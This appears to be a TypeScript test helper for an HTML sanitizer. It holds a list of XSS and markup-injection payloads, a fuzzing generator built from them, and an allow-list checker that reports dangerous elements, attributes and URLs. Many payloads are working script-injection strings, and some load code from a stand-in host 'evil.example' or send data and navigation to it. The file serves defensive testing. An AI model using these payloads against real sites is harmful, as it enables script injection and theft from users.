import { type Element, isTag } from 'domhandler'
import fc from 'fast-check'
import { parseDocument } from 'htmlparser2'

const NUL = String.fromCharCode(0)
const ID = '019ab1c2-7e1f-7c3a-9a55-0d7a3f1f6a10'

/** Markup that somebody could try, one shape each: what is common on lists of its kind, written anew for our elements. */
export const ATTACKS: readonly string[] = [
  // scripts and what looks like them
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<<script>alert(1)//<</script>',
  '<script\u0000>alert(1)</script>'.replaceAll('\u0000', NUL),
  '<script>var a="<p>";</script><p>after',
  '</p><script>alert(1)',
  // handlers
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)">a</p>',
  '<img src="x" ONERROR = "alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x\nonerror\n=\nalert(1)>',
  '<a href="https://a.example"onmouseover="alert(1)">a</a>',
  '<p title="a"onfocus=alert(1) tabindex=0 autofocus>a</p>',
  '<details open ontoggle=alert(1)><summary>a</summary></details>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<table background="javascript:alert(1)"><tr><td>a</td></tr></table>',
  // schemes
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href=" javascript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="java\nscript:alert(1)">a</a>',
  `<a href="java${NUL}script:alert(1)">a</a>`,
  '<a href="\u0001javascript:alert(1)">a</a>',
  '<a href="&#106;&#97;vascript:alert(1)">a</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">a</a>',
  '<a href="javascript&colon;alert(1)">a</a>',
  '<a href="java&Tab;script:alert(1)">a</a>',
  '<a href="jav&NewLine;ascript&colon;alert&lpar;1&rpar;">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  '<a href="feed:javascript:alert(1)">a</a>',
  '<a href="view-source:javascript:alert(1)">a</a>',
  '<a href="blob:https://a.example/1">a</a>',
  '<a href="file:///etc/passwd">a</a>',
  '<a href="//evil.example/">a</a>',
  '<a href="\\\\evil.example\\">a</a>',
  '<a href="/\\evil.example">a</a>',
  '<a href="/\t/evil.example">a</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="javascript:alert(1)">',
  '<img srcset="javascript:alert(1) 1x" src="x">',
  // frames and objects
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<iframe src="/api/v3/regions"></iframe>',
  '<iframe src="https://">a</iframe>',
  '<iframe src="https://a.example"><img src=x onerror=alert(1)></iframe><script>alert(1)</script>',
  '<iframe src="https://a.example" title=\'"><script>alert(1)</script>\'></iframe>',
  '<iframe src="https://<b>a.example">',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"><p>a</p></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="a.class"></applet>',
  '<portal src="https://evil.example"></portal>',
  // other content models
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">a</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>a</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">a</math>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">a</p></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode="open"><script>alert(1)</script></template>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><img src="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><img src="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  // things that act without a script
  '<form action="https://evil.example"><input name=a><button>Send</button></form>',
  '<button formaction="javascript:alert(1)">a</button>',
  '<input type=image src=x onerror=alert(1) formaction="javascript:alert(1)">',
  '<isindex type=image src=x onerror=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<meta http-equiv="Set-Cookie" content="a=b">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=prefetch href="https://evil.example/?seen">',
  '<video poster=javascript:alert(1)><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>a</marquee>',
  '<dialog open>a</dialog>',
  '<a href="https://a.example" ping="https://evil.example">a</a>',
  '<a href="https://a.example" target="_blank" rel="opener">a</a>',
  '<a href="https://a.example" download="x.exe">a</a>',
  '<p id="content" name="content">a</p>',
  '<p is="near-me" data-source="//evil.example">a</p><near-me data-source="//evil.example"></near-me>',
  '<p contenteditable popover anchor=x slot=y>a</p>',
  // styles
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<p style="width:expression(alert(1))">a</p>',
  '<p style="color:#fff;background-image:u\\72l(https://evil.example)">a</p>',
  '<p style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9">a</p>',
  '<p style="behavior:url(x.htc);-moz-binding:url(x)">a</p>',
  '<p style="color:#fff}body{background:url(//evil.example)">a</p>',
  '<p style="list-style-type:none&quot;onclick=alert(1)">a</p>',
  '<p style=\'width: 15px" onclick="alert(1)\'>a</p>',
  '<p style="/*</p><script>alert(1)</script>*/color:#fff">a</p>',
  // broken on purpose
  '<p title="',
  "<p title='\"><script>alert(1)</script>'>a</p>",
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php echo 1 ?><p>a</p>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]><p>&x;</p>',
  '<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script>',
  '<body onload=alert(1)><p>a</p></body></html><script>alert(1)</script>',
  '</div></article></main></body></html><p>a</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt; &#60;b&#62;',
  '<p>\u202Eevil\u202C \u2066a\u2069 \u200F\u061C</p>',
  '<p>\uD800 lone \uDFFF</p>',
  `<p>a${NUL}b</p>`,
  `${'<div>'.repeat(2000)}<img src=x onerror=alert(1)>`,
  `<p title="${'a'.repeat(50_000)}<script>">a</p>`,
  `<p ${Array.from({ length: 500 }, (_, i) => `a${i}=1`).join(' ')} onclick=alert(1)>a</p>`,
  // what our own steps after the cleaning look for
  '<p title="<h2><img src=x onerror=alert(1)></h2>">a</p>',
  `${'<h2 title="><img src=x onerror=alert(1)>">a</h2>'.repeat(4)}`,
  '<img src="https://a.example/a.jpg" alt="<img src=x onerror=alert(1)>">',
  '<img src="https://a.example/a.jpg" alt=\'"><img src=x onerror=alert(1)>\'>',
  '<img src="https://a.example/a.jpg" alt="$& $` $\' $1">',
  '<p title="</body><script>alert(1)</script>">&lt;/body&gt;</p>',
  '<p title=\'<i data-icon="phone"></i>\'>&lt;i data-icon="phone"&gt;&lt;/i&gt;</p>',
  '<i data-icon="phone"></i><i data-icon="constructor"></i>',
  '<p>href="#i-constructor" href="#i-phone" class="s-icon" href="page:7"</p>',
  '<a href="https://a.example/" class="embed">a<b>b</b></a>',
  '<a class="embed" href="https://a.example/?&quot;><script>alert(1)</script>">a.example</a>',
  '<a title=\'" rel="\' href="https://a.example/">a</a>',
  '<a href="https://a.example"><a href="page:1">a</a><iframe src="https://b.example"></iframe></a>',
  `<a lang="de" hreflang="de" title="x" href="page:${ID}#a&quot;b">a</a>`,
  '<a href="page:1">a</a><a href="page:javascript:alert(1)">b</a><a href="PAGE:1">c</a>',
  '<img data-media="1"><img data-media="../../x"><img data-media="__proto__" src="https://a.example/a.jpg">',
  '<img data-missing="<script>alert(1)</script>" src="https://a.example/a.jpg">',
  '<div data-contact="__proto__"></div><div data-contact="constructor">x</div><div data-contact="1"></div>',
  "<div data-contact='1\"><script>alert(1)</script>'></div>",
  '<p class="s-icon &quot; onclick=&quot;alert(1)">a</p>',
  '<p style="width: 15px" class=\'"><script>\'>a</p>',
  '<div class="table"><table><tr><td title="<h2>">a</td></tr></table></div>',
]

const PIECES: readonly string[] = [
  ...ATTACKS.filter(({ length }) => length < 60),
  ...'<p> </p> <div> </div> <h1> <h2> </h2> <h4> </h4> <a> </a> <ul> <li> </li> <table> <tr> <td> </table>'.split(
    ' ',
  ),
  ...'<span> </span> <iframe> </iframe> <img> <br> <b> </b> <strong> </strong> <details> <summary> <pre> <i> </i>'.split(
    ' ',
  ),
  '<p title="',
  '<a href="page:',
  '<a href="https://a.example/',
  '<h2 title="',
  '<img alt="',
  '<div data-contact="',
  ' style="',
  ' class="s-icon ',
  'padding-left: 30px; color: #fff',
  ...[
    '"',
    "'",
    '>',
    '<',
    '/>',
    '=',
    '&',
    '&amp;',
    '&lt;',
    '&quot;',
    '&nbsp;',
    '&#0;',
    ' ',
    '\n',
    '\u00a0',
    '--',
    '<!--',
  ],
  'Arzt',
  'طبيب',
  '$&',
]

/** Markup as nobody would write it. */
export const fragments: fc.Arbitrary<string> = fc
  .array(fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...PIECES) }, fc.string({ maxLength: 4 })), {
    maxLength: 14,
  })
  .map((pieces) => pieces.join(''))

const ELEMENTS = new Set(
  (
    'h1 h2 h3 h4 h5 h6 p div section article aside blockquote hr br pre ul ol li dl dt dd table caption thead tbody ' +
    'tfoot tr th td colgroup col a abbr b bdi bdo cite code em i kbd mark q s del ins small span strong sub sup time ' +
    'u wbr img figure figcaption details summary'
  ).split(' '),
)
const ATTRIBUTES = new Set(
  (
    'lang dir class style title translate href hreflang src alt width height data-media data-contact data-missing ' +
    'data-icon start type reversed value colspan rowspan scope datetime open tabindex'
  ).split(' '),
)
const SCHEMES = /^(?:https?|mailto|tel|sms|page):/i
/** One way to write a tag: what is written like this, every parser reads alike. */
const TAG = /^<\/?[a-z][a-z0-9]*(?: [a-z-]+(?:="[^"<>]*")?)*(?: \/)?>/

/**
 * What in a piece of markup could do harm: elements, attributes and addresses that are not on the list, and whatever
 * different parsers might read differently. `also` are further elements and attributes, for what we put in ourselves.
 * @example dangersIn('<p onclick="x">') // ['onclick']
 */
export function dangersIn(html: string, also: { elements?: string; attributes?: string } = {}): string[] {
  const elements = new Set([...ELEMENTS, ...(also.elements ?? '').split(' ')])
  const attributes = new Set([...ATTRIBUTES, ...(also.attributes ?? '').split(' ')])
  const dangers: string[] = []
  for (let at = 0; at < html.length; ) {
    const next = html.slice(at).search(/[<>]/)
    if (next === -1) break
    at += next
    const tag = TAG.exec(html.slice(at, at + 200_000))?.[0]
    if (!tag) {
      dangers.push(`not one of our tags: ${html.slice(at, at + 60)}`)
      at++
      continue
    }
    at += tag.length
    const element = parseDocument(tag).children.find(isTag)
    if (element) dangers.push(...dangersOf(element, elements, attributes))
    else if (!tag.startsWith('</')) dangers.push(tag)
  }
  return dangers
}

function dangersOf(
  element: Element,
  elements: ReadonlySet<string>,
  attributes: ReadonlySet<string>,
): string[] {
  const bad = Object.entries(element.attribs).flatMap(([name, value]) => {
    if (!attributes.has(name)) return [name]
    if (['href', 'src', 'srcset'].includes(name) && !isHarmless(value)) return [`${name}=${value}`]
    if (name === 'style' && /url|expression|import|script|binding|behavior|position|[\\@{}<]/i.test(value))
      return [`style=${value}`]
    return []
  })
  return elements.has(element.name) ? bad : [element.name, ...bad]
}

/** As a browser reads it: without white space and control characters at its ends, without tabs and line ends inside. */
function isHarmless(address: string): boolean {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers skip them (URL Standard, basic URL parser)
  const read = address.replace(/^[\u0000-\u0020]+|[\t\n\r]/g, '').replaceAll('\\', '/')
  return SCHEMES.test(read) || (!/^[^/?#]*:/.test(read) && !read.startsWith('//'))
}
